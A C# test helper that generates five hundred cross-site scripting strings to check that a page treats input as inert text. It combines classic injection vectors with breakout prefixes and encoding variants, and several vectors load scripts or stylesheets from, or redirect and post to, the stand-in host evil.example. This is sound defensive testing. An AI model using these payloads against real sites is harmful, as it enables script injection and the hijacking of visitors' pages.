using System.Net;

namespace Obs.Local.Page.Tests;

/// <summary>Texts that would run if the page took any of them for more than text: five hundred, each another one.</summary>
internal static class HostileTexts
{
    private static readonly string[] Breakouts = ["", "\">", "'>", "--></textarea></script>"];

    private static readonly Func<string, string>[] Disguises =
    [
        static text => text,
        static text => text.ToUpperInvariant(),
        static text => WebUtility.HtmlEncode(text)!,
        static text => Uri.EscapeDataString(text),
        static text => text.Replace("<", "\\u003c", StringComparison.Ordinal),
    ];

    private static readonly string[] Vectors =
    [
        "<img src=x onerror=ran()>",
        "<script>ran()</script>",
        "<script src=//evil.example/x.js></script>",
        "<svg onload=ran()>",
        "<svg><animate onbegin=ran() attributeName=x dur=1s>",
        "<iframe src=javascript:ran()></iframe>",
        "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
        "<body onpageshow=ran()>",
        "<details open ontoggle=ran()>",
        "<input autofocus onfocus=ran()>",
        "<video><source onerror=ran()></video>",
        "<object data=javascript:ran()></object>",
        "<embed src=javascript:ran()>",
        "<a href=javascript:ran()>x</a>",
        "[x](javascript:ran())",
        "![x](x\" onerror=\"ran())",
        "<style>@import '//evil.example/x.css'</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example>",
        "<form action=//evil.example><button autofocus>x</button></form>",
        "<math><mtext><mglyph><style><!--</style><img title=\"--><img src=x onerror=ran()>\">",
        "{{constructor.constructor('ran()')()}}",
        "${ran()}",
        "javascript:ran()//\" onmouseover=ran() '",
    ];

    public static IReadOnlyList<string> All { get; } =
    [
        .. from vector in Vectors
           from breakout in Breakouts
           from disguise in Disguises
           select breakout + disguise(vector),
    ];
}
